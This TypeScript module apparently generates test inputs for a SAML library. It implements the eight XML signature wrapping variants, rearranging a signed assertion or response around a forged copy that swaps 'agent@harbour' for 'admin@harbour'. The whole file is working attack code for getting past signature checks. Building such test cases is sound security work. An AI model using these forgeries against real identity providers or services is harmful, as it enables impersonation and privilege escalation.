import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

/** The eight published variants of signature wrapping. */
export const wrappings = [
  ['the signed response inside of the signature of a forged one', 'response-1'],
  ['the signed response before the signature of a forged one', 'response-2'],
  ['a forged assertion before the signed one', 'assertion-3'],
  ['the signed assertion inside of a forged one', 'assertion-4'],
  ['a forged assertion with the signature, the signed one at the end', 'assertion-5'],
  ['a forged assertion whose signature contains the signed one', 'assertion-6'],
  ['a forged assertion in an extension', 'assertion-7'],
  ['a forged assertion whose signature holds the signed one as an object', 'assertion-8'],
] as const

type Wrapping = (typeof wrappings)[number][1]

const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#'

function childOf(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find((node) => (node as Element).localName === name)
  if (!found) throw new Error(`There is no ${name}.`)
  return found as Element
}

/** A copy with another person; beside the original it gets another id. */
function forge(original: Element, isRenamed: boolean): Element {
  const text = new XMLSerializer().serializeToString(original).replaceAll('agent@harbour', 'admin@harbour')
  const forged = new DOMParser().parseFromString(text, 'text/xml').documentElement
  if (isRenamed) forged.setAttribute('ID', '_forged')
  return original.ownerDocument.importNode(forged, true)
}

export function wrapAssertion(xml: string, kind: Wrapping): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const original = childOf(response, 'Assertion')
  const forged = forge(original, true)
  const signature = childOf(original, 'Signature')
  const forgedSignature = childOf(forged, 'Signature')
  if (kind === 'assertion-3') {
    forged.removeChild(forgedSignature)
    response.insertBefore(forged, original)
  } else if (kind === 'assertion-4') {
    forged.removeChild(forgedSignature)
    response.replaceChild(forged, original)
    forged.appendChild(original)
  } else if (kind === 'assertion-5') {
    original.removeChild(signature)
    response.replaceChild(forged, original)
    response.appendChild(original)
  } else if (kind === 'assertion-6') {
    original.removeChild(signature)
    response.replaceChild(forged, original)
    forgedSignature.appendChild(original)
  } else if (kind === 'assertion-7') {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    forged.removeChild(forgedSignature)
    forged.setAttribute('ID', original.getAttribute('ID') ?? '')
    extensions.appendChild(forged)
    response.insertBefore(extensions, original)
  } else {
    original.removeChild(signature)
    response.replaceChild(forged, original)
    const object = document.createElementNS(signatureNamespace, 'Object')
    object.appendChild(original)
    forgedSignature.appendChild(object)
  }
  return new XMLSerializer().serializeToString(document)
}

export function wrapResponse(xml: string, kind: Wrapping): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const original = document.documentElement
  const forged = forge(original, true)
  const signature = childOf(original, 'Signature')
  const forgedSignature = childOf(forged, 'Signature')
  original.removeChild(signature)
  document.replaceChild(forged, original)
  if (kind === 'response-1') forgedSignature.appendChild(original)
  else forged.insertBefore(original, forgedSignature)
  return new XMLSerializer().serializeToString(document)
}
